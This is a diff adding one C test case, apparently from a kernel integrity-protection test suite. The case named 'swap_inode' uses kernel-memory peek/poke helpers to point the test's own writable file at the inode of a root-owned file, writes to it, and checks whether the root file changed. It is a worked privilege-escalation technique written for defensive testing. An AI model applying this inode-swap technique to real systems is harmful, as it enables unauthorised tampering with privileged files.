@@ -1,0 +1,46 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * What: The program makes a file of its own that it may write lead to the inode of root's file.
+ * Stops it: Who may do what is read from sealed records, and each record says whose it is. An
+ * open file's record names the inode that was opened.
+ * Without: Root's file is changed by an ordinary write(2).
+ */
+#include "attack.h"
+
+ATTACK("cred_integrity", "swap_inode", "cred_integrity: an open file is not the one that was opened",
+       "The program makes a file of its own that it may write lead to the inode of "
+       "root's file.",
+       "Who may do what is read from sealed records, and each record says whose it is. "
+       "An open file's record names the inode that was opened.",
+       "Root's file is changed by an ordinary write(2).");
+
+static bool control(void)
+{
+	return is_ordinary();
+}
+
+static bool is_changed(long file)
+{
+	char first = 0;
+
+	call4(__NR_pread64, file, (long)&first, 1, 0);
+	return first == 'X';
+}
+
+static bool fire(void)
+{
+	const long file = call3(__NR_open, (long)PUBLIC, O_RDONLY, 0);
+	const long mine = call3(__NR_open, (long)"/tmp/mine", O_CREAT | O_RDWR, 0644);
+	const uint64_t task = own_task(), inode = member("file.inode");
+	const uint64_t place = file_struct(task, (int)mine) + inode, own = peek(place);
+
+	poke(place, peek(file_struct(task, (int)file) + inode));
+	call4(__NR_pwrite64, mine, (long)"X", 1, 0);
+	poke(place, own);
+	return is_changed(file);
+}
+
+static void victim(void)
+{
+	victim_waits();
+}
